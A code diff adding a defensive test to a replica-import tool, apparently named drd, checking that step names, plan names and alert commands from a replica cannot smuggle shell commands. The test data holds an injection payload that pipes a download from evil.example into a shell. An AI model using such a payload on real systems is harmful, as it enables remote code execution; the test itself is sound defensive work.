@@ -72,6 +72,25 @@ def test_a_sound_replica_comes_over_whole(replica: Path) -> None:
     assert not list(replica.parent.glob("*.fresh*"))
 
 
+EVIL = "db; curl evil.example | sh #"
+
+
+def test_names_in_a_replica_are_no_commands(replica: Path) -> None:
+    """drd prints `drd skip RUN STEP`, and `drd backup PLAN`, for a person with a shell."""
+    with sqlite3.connect(replica) as connection:
+        connection.execute(STEP.replace("'dump', 1", "?, 2"), ("aaaa0000", EVIL))
+        connection.execute(RUN.replace("'shop', ?", f"'{EVIL}', ?"), ("bbbb0000", "backup"))
+        connection.execute(
+            "insert into alerts (id, plan, kind, subject, state, since, message, severity, seen_at,"
+            " command) values ('a1', 'shop', 'rpo', '', 'firing', ?1, 'late', 'critical', ?1, ?2)",
+            (AT, EVIL),
+        )
+    assert make_ours(replica, NOW) == 3  # the run also has a row in the summary of its plan
+    assert ask(replica, "select id from runs") == [("aaaa0000",)]
+    assert ask(replica, "select name from steps") == [("dump",)]
+    assert ask(replica, "select message, command from alerts") == [("late", "")]
+
+
 def test_a_replica_of_an_older_drd_is_brought_up_to_date(tmp_path: Path) -> None:
     old = tmp_path / "old.db"
     make_empty(old, "0003")
